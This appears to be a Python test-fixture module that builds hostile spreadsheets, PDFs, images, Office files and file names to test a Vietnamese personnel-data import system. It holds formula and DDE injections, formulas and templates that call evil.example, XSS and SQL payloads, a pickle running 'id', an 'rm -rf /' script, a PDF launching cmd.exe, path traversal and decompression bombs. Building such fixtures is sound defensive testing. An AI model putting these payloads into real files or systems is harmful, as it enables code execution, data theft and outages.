"""Hostile contents: honest packages whose cells are not, files that are something else, and evidence nobody should open."""

import gzip
import io
import struct
import tarfile
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator

from evaluation.files.legacy_fonts import LegacyFont, to_legacy
from evaluation.files.sheets import OutColumn, write_table
from tests import catalogue_files
from tests.abuse.hostile_packages import HEADER, LINE, Made, changed, header_row, plain, with_sheet
from tests.files.conftest import build

FORMULAS = (
    '=HYPERLINK("http://evil.example","Bấm")', "=1+1", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "=DDE(\"cmd\";\"/C calc\";\"a\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1",
    ";=1+1", "|=1", "%0A=1+1", "=cmd|' /C notepad'!'A1'",
)  # fmt: skip
TEXTS = {
    "zero-width letters": "Đặng\u200b Thị\u200d Hoa\ufeff",
    "letters from right to left": "Đặng \u202eaoH ịhT\u202c",
    "Cyrillic letters": "Đặng Thị Ноа",
    "letters in two codes each": unicodedata.normalize("NFD", "Đặng Thị Hoà Nguyễn"),
    "wide letters": "Ｄang Ｔhi Ｈoa",
    "spaces of all kinds": "Đặng\u00a0Thị\u3000Hoa\u2003\t",
    "pictures": "Đặng Thị 😀👨‍👩‍👧",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'",
    "a template": "{{7*7}}${7*7}",
    "SQL": "'; drop table person; --",
    "a path": "../../etc/passwd",
    "a NUL as Excel writes it": "Đặng_x0000_Thị",
    "half a letter as Excel writes it": "Đặng _xD800_ Hoa",
    "signs that steer": "Đặng\x08\x1b[31m Thị\x7f",
    "nothing but spaces": "   \u00a0 ",
    "65,000 letters": "ă" * 65_000,
    "32,767 letters": "a" * 32_767,
    "a number": "12345",
    "old code TCVN3": to_legacy("Nguyễn Thị Hường Đỗ", LegacyFont.TCVN3),
    "old code VNI": to_legacy("Nguyễn Thị Hường Đỗ", LegacyFont.VNI),
    "half old, half new code": "Nguyễn " + to_legacy("Thị Hường", LegacyFont.TCVN3),
}
DATES = ("15/08/1985", "1985", "8/15/1985", "15-8-85", "31/02/1985", "1985-08-15", 31274, 31274.5, -5, 0, 60,
2958466, 1e12, "1985.0",
         "ngày 15 tháng 8 năm 1985", "15/08/0985", "00/00/0000", "29/02/1985", "tháng 8/1985",
         "1985-08-15T00:00:00Z", True)  # fmt: skip
NUMBERS = ("89,5", "89.5", "1.234,5", "1,234.5", "1e309", "NaN", "-1", "1/2", "٣", "½", "0x1F", "1_000", 1e308, -0.0,
0.1 + 0.2, 10**15,
           "9" * 400, "1,2,3", "100,0001", " 5 ", "5 điểm", "N2", "II", True)  # fmt: skip
UNITS = (
    "STT",
    "Mã định danh",
    "Tên đơn vị",
    "Loại đơn vị",
    "Mã đơn vị cấp trên",
    "Hiệu lực từ",
    "Hiệu lực đến",
)
REGISTERS = ("Sổ", "Mã số", "Nội dung", "Năm", "Loại hình", "Số văn bản", "Ngày văn bản")


def table(header: tuple[str, ...], *rows: tuple[object, ...]) -> bytes:
    """A workbook as honest programs write it, but with formulas as they are given."""
    return build([list(header), *[list(row) for row in rows]])


def person(**given: object) -> tuple[object, ...]:
    """The line of a person with some cells changed; underscores stand for spaces."""
    values = dict(zip(HEADER, LINE, strict=True)) | {
        name.replace("_", " "): value for name, value in given.items()
    }
    return tuple(values[name] for name in HEADER)


def cells() -> Iterator[Made]:
    """Lists of people, units, products and awards whose cells attack whoever reads or exports them."""
    for number, formula in enumerate(FORMULAS):
        rows = (person(Họ_và_tên=formula, Chức_vụ=formula),)
        yield (
            f"formula {number} as text of names",
            lambda rows=rows: write_table([OutColumn(h) for h in HEADER], rows),
        )
    yield "formulas in every cell", lambda: table(HEADER, tuple("=1+1" for _ in HEADER))
    yield "formulas in the header", lambda: table(tuple(f"={name}" for name in HEADER), LINE)
    for title, text in TEXTS.items():
        yield f"names with {title}", lambda text=text: table(HEADER, person(Họ_và_tên=text, Đơn_vị=text))
    for title, font in (("TCVN3", LegacyFont.TCVN3), ("VNI", LegacyFont.VNI)):
        yield (
            f"a whole list in {title}",
            lambda font=font: table(
                HEADER,
                *(person(Họ_và_tên=to_legacy(f"Nguyễn Thị Hường {n}", font), STT=n) for n in range(40)),
            ),
        )
    yield (
        "a header in TCVN3",
        lambda: table(tuple(to_legacy(name, LegacyFont.TCVN3) for name in HEADER), LINE),
    )
    yield (
        "a header in two codes",
        lambda: table(tuple(unicodedata.normalize("NFD", name) for name in HEADER), LINE),
    )
    yield (
        "a header with zero-width letters",
        lambda: table(tuple("\u200b".join(name) for name in HEADER), LINE),
    )
    yield "another header", lambda: table(("a", "b", "c"), (1, 2, 3))
    yield "every column twice", lambda: table(HEADER + HEADER, LINE + LINE)
    yield "one column 300 times", lambda: table(("Họ và tên",) * 300, ("Hoa",) * 300)
    yield "a header without rows", lambda: table(HEADER)
    yield "rows without a header", lambda: table(LINE, LINE, LINE)
    yield "a header in row 30", lambda: build([[""]] * 29 + [list(HEADER), list(LINE)])
    yield "a hidden sheet", lambda: changed({"xl/workbook.xml": _workbook_with_state("veryHidden")})
    yield "40 sheets", lambda: build({f"Tờ {n}": [list(HEADER), list(LINE)] for n in range(40)})
    yield (
        "dates in every form",
        lambda: table(HEADER, *(person(Ngày_sinh=day, STT=n) for n, day in enumerate(DATES))),
    )
    yield (
        "personal numbers in every form",
        lambda: table(
            HEADER,
            *(
                person(CCCD=text, Số_hiệu_CBCCVC=f"CB{n}")
                for n, text in enumerate(
                    (
                        "001085012345",
                        1085012345,
                        1085012345.0,
                        "123456789",
                        "0010850123456789",
                        "٠٠١٠٨٥٠١٢٣٤٥",
                        -1,
                        "1e11",
                        1e300,
                    )
                )
            ),
        ),
    )
    yield "one person 300 times", lambda: table(HEADER, *([LINE] * 300))
    yield (
        "3,000 rows that are all wrong",
        lambda: table(HEADER, *(person(Đơn_vị=f"Sở {n}", Loại="?") for n in range(3_000))),
    )
    for number, text in enumerate(
        ("=1+1", "'; drop table unit; --", "<script>", "\u202e", "H01.151", "ă" * 9_000)
    ):
        yield (
            f"units {number} with hostile cells",
            lambda text=text: table(
                UNITS,
                (1, text, text, "Phòng", text, "01/01/2026", ""),
                (2, "H99.1", text, text, "H99.1", text, text),
            ),
        )
    yield (
        "units that stand under each other in a circle",
        lambda: table(
            UNITS,
            (1, "H98.1", "A", "Phòng", "H98.2", "01/01/2026", ""),
            (2, "H98.2", "B", "Phòng", "H98.1", "01/01/2026", ""),
        ),
    )
    yield "a unit under itself", lambda: table(UNITS, (1, "H98.1", "A", "Phòng", "H98.1", "01/01/2026", ""))
    for number, text in enumerate(NUMBERS):
        yield (
            f"products {number} with points {str(text)[:12]}",
            lambda text=text: catalogue_files.annex(
                catalogue_files.row(points=text, coefficient=text, frame=str(text), group=text)
            ),
        )
    yield (
        "products with hostile texts",
        lambda: catalogue_files.annex(
            *(
                catalogue_files.row(f"DC.{n}", task=text, output=text, detail=text)
                for n, text in enumerate([*FORMULAS, *TEXTS.values()])
            )
        ),
    )
    yield (
        "registers with hostile cells",
        lambda: table(
            REGISTERS,
            *(
                ("TITLE", text, text, text, text, text, text)
                for text in [*FORMULAS, *TEXTS.values(), *map(str, DATES)]
            ),
        ),
    )
    yield (
        "a cell of 1 MB",
        lambda: with_sheet(header_row() + f"<row r='2'><c r='F2' t='str'><v>{'ă' * 500_000}</v></c></row>"),
    )


def other_kinds() -> Iterator[Made]:
    """Files that are something else than their name says."""
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    csv = "Họ và tên;Ngày sinh\r\nĐặng Thị Hoa;15/08/1985\r\n"
    kinds: dict[str, Callable[[], bytes]] = {
        "nothing": lambda: b"",
        "one byte": lambda: b"P",
        "an old .xls": lambda: compound,
        "an old .xls of 2 MB": lambda: compound + b"Workbook".ljust(2_000_000, b"\x01"),
        "an encrypted workbook": lambda: compound + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 4_000,
        "a program": lambda: b"MZ\x90\x00" + b"\x00" * 4_000,
        "a program of Linux": lambda: b"\x7fELF" + b"\x00" * 4_000,
        "a PDF": lambda: pdf(),
        "a page": lambda: b"<!doctype html><script>alert(1)</script>",
        "an SVG": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "a CSV": lambda: csv.encode("utf-8-sig"),
        "a CSV in UTF-16": lambda: csv.encode("utf-16"),
        "a CSV of Windows 1258": lambda: unicodedata.normalize("NFD", csv).encode("cp1258", "replace"),
        "XML of 2003": lambda: (
            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
        ),
        "JSON": lambda: b'{"a": [1, 2]}',
        "a GZIP": lambda: gzip.compress(plain()),
        "a GZIP bomb": lambda: gzip.compress(b"\x00" * 30_000_000),
        "a TAR": _tar,
        "a RAR": lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 400,
        "a 7z": lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 400,
        "a ZIP of documents": lambda: package({"a.pdf": pdf(), "b.docx": b"x"}),
        "an .ods": lambda: package(
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
        ),
        "a Word file": lambda: document(),
        "an empty ZIP": lambda: b"PK\x05\x06" + b"\x00" * 18,
        "NUL 5,000 times": lambda: b"\x00" * 5_000,
        "noise": lambda: bytes((n * 131 + n // 7) % 256 for n in range(60_000)),
        "noise after the sign of a ZIP": lambda: b"PK\x03\x04" + bytes((n * 37) % 256 for n in range(60_000)),
        "21 MB": lambda: b"PK\x03\x04" + b"\x00" * (21 * 1024 * 1024),
        "26 MB": lambda: b"PK\x03\x04" + b"\x00" * (26 * 1024 * 1024),
        "a shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
        "a pickle": lambda: b"cos\nsystem\n(S'id'\ntR.",
    }
    yield from kinds.items()


def evidence() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """Title, file name and content of evidence nobody should have to open."""
    outside = (
        b'<Relationships><Relationship Id="a" Type="x/attachedTemplate"'
        b' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    yield (
        "a PDF that runs a script",
        "a.pdf",
        lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    )
    yield "a PDF that starts a program", "a.pdf", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield "a PDF with files inside", "a.pdf", lambda: pdf(b"/Names << /EmbeddedFiles 2 0 R >>")
    yield "a PDF without an end", "a.pdf", lambda: pdf()[:-8]
    yield "a PDF after a page", "a.pdf", lambda: b"<html>" + pdf()
    yield "a PDF that is also a page", "a.pdf", lambda: pdf(b"<script>alert(1)</script>")
    yield "a PDF that is also a ZIP", "a.pdf", lambda: pdf() + plain()
    yield "a picture of 50,000 × 50,000 pixels", "a.png", lambda: png(50_000, 50_000)
    yield "a picture of 2³¹ pixels a side", "a.png", lambda: png(2**31 - 1, 2**31 - 1)
    yield "a picture of no pixel", "a.png", lambda: png(0, 0)
    yield (
        "a picture of 25,000 × 7,000 in a bomb",
        "a.png",
        lambda: png(25_000, 7_000, zlib.compress(b"\x00" * 8_000_000)),
    )
    yield "a picture cut off", "a.png", lambda: png(10, 10)[:40]
    yield "a picture with broken parts", "a.png", lambda: png(10, 10).replace(b"IDAT", b"\xff\xff\xff\xff")
    yield (
        "a picture whose part is longer than the file",
        "a.png",
        lambda: png(10, 10).replace(struct.pack(">I", 13), b"\x7f\xff\xff\xff", 1),
    )
    yield "a picture with words in it", "a.png", lambda: png(1, 1, extra=b"GPS\x0010.7,106.6<script>")
    yield "a picture that is also a page", "a.png", lambda: png(1, 1) + b"<script>alert(1)</script>"
    yield "a photograph with its place", "a.jpg", lambda: jpeg(1, 1, b"Exif\x00\x00GPS106")
    yield "a photograph of 65,500 × 65,500", "a.jpg", lambda: jpeg(65_500, 65_500)
    yield "a photograph cut off", "a.jpg", lambda: jpeg(1, 1)[:12]
    yield (
        "a photograph with endless markers",
        "a.jpg",
        lambda: b"\xff\xd8\xff" + b"\xff\xe0\x00\x02" * 200_000,
    )
    yield (
        "a photograph with a marker of length 0",
        "a.jpg",
        lambda: b"\xff\xd8\xff\xe0\x00\x00" + b"\x00" * 100,
    )
    yield "a GIF", "a.gif", lambda: b"GIF89a\xff\xff\xff\xff" + b"\x00" * 100
    yield "a GIF named .png", "a.png", lambda: b"GIF89a" + b"\x00" * 100
    yield (
        "an SVG with a script",
        "a.svg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    )
    yield "an SVG named .png", "a.png", lambda: b"<svg onload='alert(1)'/>"
    yield "a page", "a.html", lambda: b"<script>alert(1)</script>"
    yield "a page named .pdf", "a.pdf", lambda: b"<script>alert(1)</script>"
    yield "a program named .pdf", "a.pdf", lambda: b"MZ" + b"\x00" * 500
    yield "a shortcut", "a.lnk", lambda: b"L\x00\x00\x00" + b"\x00" * 100
    yield (
        "a Word file with a template from elsewhere",
        "a.docx",
        lambda: document({"word/_rels/settings.xml.rels": outside}),
    )
    yield "a Word file with macros", "a.docx", lambda: document({"word/vbaProject.bin": b"x"})
    yield "a Word file with a bomb", "a.docx", lambda: document({"word/media/a.xml": b"a" * 30_000_000})
    yield (
        "a Word file with a billion laughs",
        "a.docx",
        lambda: document({"word/settings.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
    )
    yield "a Word file named .pdf", "a.pdf", lambda: document()
    yield "a Word file cut off", "a.docx", lambda: document()[:-30]
    yield "a file that is Word and Excel at once", "a.docx", lambda: document({"xl/workbook.xml": b"<a/>"})
    yield (
        "slides from elsewhere",
        "a.pptx",
        lambda: package(
            {
                "[Content_Types].xml": b"<Types/>",
                "ppt/presentation.xml": b"<a/>",
                "ppt/_rels/presentation.xml.rels": outside,
            }
        ),
    )
    yield "11 MB", "a.pdf", lambda: pdf() + b" " * (11 * 1024 * 1024) + b"%%EOF"
    for name in ("../../etc/passwd.pdf", "CON.pdf", "NUL", "a" * 300 + ".pdf", "\u202efdp.exe.pdf", "a\x00.pdf",
    "a.pdf.exe", "a.exe.pdf",
                 ".pdf", "...", 'a";x=".pdf', "a\r\nSet-Cookie: x=1.pdf", "<img src=x onerror=alert(1)>.pdf",
                 "=1+1.pdf", "ă" * 200 + ".pdf",
                 "a.PDF", "a.pdf ", "a.pdf.", "đ" * 100, "%2e%2e%2f.pdf", "a/b\\c.pdf"):  # fmt: skip
        yield f"a file named {name[:40]!r}", name, lambda: pdf()


def pdf(inside: bytes = b"") -> bytes:
    """A small PDF."""
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog "
        + inside
        + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def png(width: int, height: int, body: bytes | None = None, extra: bytes = b"") -> bytes:
    """A picture that says it has this size."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    words = part(b"tEXt", extra) if extra else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + words
        + part(b"IDAT", body or zlib.compress(b"\0\0"))
        + part(b"IEND", b"")
    )


def jpeg(width: int, height: int, about: bytes = b"") -> bytes:
    """A photograph that says it has this size."""
    words = b"\xff\xe1" + struct.pack(">H", len(about) + 2) + about if about else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + words + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x00\xff\xd9"


def document(more: dict[str, bytes] | None = None) -> bytes:
    """A Word file with more parts."""
    return package({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | (more or {}))


def package(parts: dict[str, bytes]) -> bytes:
    """A zip of these parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return target.getvalue()


def _tar() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as made:
        entry = tarfile.TarInfo("../../etc/passwd")
        entry.size = 3
        made.addfile(entry, io.BytesIO(b"abc"))
    return target.getvalue()


def _workbook_with_state(state: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain())) as made:
        return made.read("xl/workbook.xml").replace(b"<sheet ", f'<sheet state="{state}" '.encode(), 1)
